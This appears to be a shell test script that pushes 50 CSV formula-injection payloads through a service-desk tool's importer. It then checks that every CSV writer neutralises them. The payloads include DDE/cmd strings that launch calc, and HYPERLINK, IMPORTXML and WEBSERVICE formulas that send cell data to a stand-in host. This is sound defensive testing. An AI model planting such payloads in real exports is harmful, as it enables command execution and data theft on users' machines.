#!/bin/sh
# injection.sh: 50 formula-injection payloads go in through svc-import (as
# ticket fields, attrs, a person's name, and as the raw bytes of rejected
# rows) and come back out through every CSV writer: the reports, the
# stages' change streams, the rejects file, the configuration export,
# svc-measure, svc-approve and svc-db.  No cell of any of them may begin
# with = + - @ tab or CR unless it is a plain number (-5, +1.25).
# Usage: tests/reliability/injection.sh
. "$(dirname "$0")/lib.sh"
db=$work/i.db
cd "$work" || exit 3

# the payloads, one a line; \t and \r stand for tab and carriage return
cat > payloads.txt <<'EOF'
=1+1
=SUM(A1:A9)
=HYPERLINK("http://example.invalid/?x="&A1,"click")
=cmd|' /C calc'!A0
=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")
=WEBSERVICE("http://example.invalid/")
=DDE("cmd";"/C calc";"!A0")
==1
=
=-1
+1+1
+cmd|' /C calc'!A0
+SUM(A1)
+
+ 5
+5a
+1.2.3
-1+1
-cmd|' /C calc'!A0
-SUM(A1)
-
--1
-1e5
-5 
-.
-A1
@SUM(A1:A2)
@cmd
@
@@x
\t=1+1
\tplain
\t
\r=1+1
\rplain
\r
=1\t+2
x=1
 =1+1
'=1+1
=;DROP TABLE tickets;--
=2*3"quoted"
=1,2
=line1\nline2
+1\n=2
@"a,b"
-2-2
=0x41
+0
=1e308*10
EOF
[ "$(wc -l < payloads.txt)" -eq 50 ] || { echo "injection: need 50 payloads" >&2; exit 3; }

# csvq S: S as a CSV field, \t \r \n made real
csvq() {
	printf '%s' "$1" | sed 's/\\t/\t/g; s/\\r/\r/g; s/\\n/\n/g; s/"/""/g; 1s/^/"/; $s/$/"/'
}

{
	echo "ticket_id,title,customer,category,group_name,status,priority,impact,created_at,note"
	i=0
	while IFS= read -r p; do
		i=$((i + 1))
		v=$(csvq "$p")
		echo "P$i,$v,$v,$v,Service Desk,New,3,2,2026-06-20T09:00:00Z,$v"
		# the same payload where a number is wanted: a reject
		echo "R$i,bad impact,c,Access,Service Desk,New,3,$v,2026-06-30T09:00:00Z,x"
	done < payloads.txt
	# five alike, so that a payload is a problem's key
	for i in 1 2 3 4 5; do
		echo "Q$i,same,c,\"=1+1\",Service Desk,New,3,2,2026-06-2${i}T09:00:00Z,x"
	done
} > tickets.csv
{
	echo "user,name,groups,email"
	i=0
	while IFS= read -r p; do
		i=$((i + 1))
		echo "u$i,$(csvq "$p"),Service Desk,u$i@example.invalid"
	done < payloads.txt
} > people.csv

"$root/scripts/gen-sample" -n 10 -s 51 -c cfg > /dev/null || exit 3
svc-db --db "$db" -q init || exit 3
for k in catalog priority routing calendars holidays policies escalations reasons; do
	svc-import --db "$db" -q --kind "$k" --valid-from 2026-01-01T00:00:00Z \
	    --now 2026-01-01T00:00:00Z "cfg/$k.csv" || exit 3
done
svc-import --db "$db" -q --kind people --valid-from 2026-01-01T00:00:00Z --now 2026-01-01T00:00:00Z people.csv || exit 3

out=0
# w NAME CMD...: run a writer, its standard output into out-NAME.csv
w() {
	name=$1
	shift
	out=$((out + 1))
	"$@" > "out-$name.csv" 2>>writers.err
}
w import svc-import --db "$db" --now "$NOW" -f csv --max-rejects 100% --rejects rejects.csv tickets.csv
cp rejects.csv out-rejects-file.csv
w route svc-route --db "$db" --now "$NOW" -f csv --all
w sla svc-sla --db "$db" --now "$NOW" -f csv --all
w escalate svc-escalate --db "$db" --now "$NOW" -f csv --all
w problems svc-escalate --db "$db" --now "$NOW" -f csv --problems
for r in summary volume backlog sla breaches owners kpi problems escalations rejects tickets measures; do
	w "report-$r" svc-report --db "$db" --now "$NOW" -f csv "$r"
done
w report-by svc-report --db "$db" --now "$NOW" -f csv backlog --by category
w report-sla-by svc-report --db "$db" --now "$NOW" -f csv sla --by category
w export-people svc-import --db "$db" --now "$NOW" --export people
w measure-from svc-measure --db "$db" --now "$NOW" -f csv --as pmo from-problem 1
w measure-list svc-measure --db "$db" --now "$NOW" -f csv list
w approve-list svc-approve --db "$db" --now "$NOW" -f csv list
w db-verify svc-db --db "$db" -f csv verify

# every cell of a CSV file (and its header), read by sqlite3's own CSV
# reader: those at risk that are not plain numbers
risk="substr(v, 1, 1) IN ('=', '+', '-', '@', char(9), char(13)) AND NOT (
    substr(v, 1, 1) IN ('-', '+') AND substr(v, 2) GLOB '*[0-9]*' AND
    substr(v, 2) NOT GLOB '*[^0-9.]*' AND length(v) - length(replace(v, '.', '')) <= 1)"
risky() {
	[ -s "$1" ] || return 0
	sel=$(sqlite3 :memory: ".import --csv '$1' t" "SELECT group_concat('SELECT \"' ||
	    replace(name, '\"', '\"\"') || '\" AS v FROM t', ' UNION ALL ') FROM pragma_table_info('t')")
	sqlite3 :memory: ".import --csv '$1' t" "SELECT quote(v) FROM ($sel UNION ALL
	    SELECT name FROM pragma_table_info('t')) WHERE $risk LIMIT 3"
}

n=0 bad=0 files=0
for f in out-*.csv; do
	files=$((files + 1))
	cells=$(($(wc -l < "$f")))
	n=$((n + cells))
	r=$(risky "$f")
	if [ -n "$r" ]; then
		bad=$((bad + 1))
		echo "# $f: $(echo "$r" | head -3 | tr '\n' '|')"
	fi
done
# the writers saw the payloads: the export holds every name, quoted
check "the payloads went in (50 tickets, a problem keyed by one, 50 rejects, 50 people)" test \
    "$(q "$db" "SELECT (SELECT count(*) FROM tickets WHERE ticket_id GLOB 'P*') || ' ' || (SELECT count(*) FROM problems) || ' ' || (SELECT count(*) FROM rejects) || ' ' || (SELECT count(*) FROM people)")" = "50 1 50 50"
check "a leading quote neutralises them in the export" test "$(grep -c "^u[0-9]*,\"\?'" out-export-people.csv)" -ge 40
if [ "$bad" -eq 0 ]; then
	pass "$files CSV writers ($n lines): no cell starts with = + - @ tab or CR unless a plain number"
else
	fail "$bad of $files CSV writers let a formula through"
fi
done_checks
